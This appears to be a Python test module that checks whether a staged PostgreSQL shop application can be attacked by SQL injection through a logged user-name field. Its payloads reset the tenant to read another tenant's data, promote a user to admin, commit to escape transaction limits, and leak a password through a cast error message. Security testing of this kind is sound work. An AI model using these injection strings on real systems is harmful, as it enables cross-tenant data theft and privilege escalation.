"""Attacks by the name of a user, which is only meant for the log."""

import psycopg

from prover import Target

from .stage import Stage


def attack_other_tenant(target: Target, stage: Stage) -> bool:
    """Close the text, and set the tenant once more in a second statement."""
    found = ask(target, stage, "eve'; SET LOCAL app.tenant = $$zoe$$ --")
    print(found)
    return stage.secret in found


def attack_write(target: Target, stage: Stage) -> bool:
    """Append a statement that writes, to a function that only reads."""
    print("before:", stage.role_of("eve"))
    ask(
        target, stage, "eve'; UPDATE staff SET role = $$admin$$ WHERE name = $$eve$$ --"
    )
    print("after: ", stage.role_of("eve"))
    return stage.role_of("eve") == "admin"


def attack_commit_first(target: Target, stage: Stage) -> bool:
    """End the transaction, and with it its limits; then write."""
    change = "UPDATE staff SET role = $$admin$$ WHERE name = $$eve$$"
    print("before:", stage.role_of("eve"))
    for end in ("'", "', true)"):
        ask(target, stage, f"eve{end}; COMMIT; {change} --")
    print("after: ", stage.role_of("eve"))
    return stage.role_of("eve") == "admin"


def attack_error_message(target: Target, stage: Stage) -> bool:
    """Convert a password to a number: the error message quotes what it could not convert."""
    name = "eve'; SELECT CAST(password AS integer) FROM staff WHERE name = $$root$$ --"
    try:
        target.orders(stage.db, "ana", name)
    except psycopg.Error as error:
        print(error.diag.message_primary)
        return stage.secret in str(error)
    return False


def attack_either_context(target: Target, stage: Stage) -> bool:
    """Close the text as it ends in `SET`, and as it ends in a call of a function."""
    for end in ("'", "', true)"):
        found = ask(target, stage, f"eve{end}; SET LOCAL app.tenant = $$zoe$$ --")
        print(found)
        if stage.secret in found:
            return True
    return False


def ask(target: Target, stage: Stage, user: str) -> list[str]:
    """Return what a user of the shop `ana` sees; nothing if PostgreSQL refuses."""
    try:
        return list(target.orders(stage.db, "ana", user))
    except psycopg.Error as error:
        print(error.diag.message_primary)
        return []
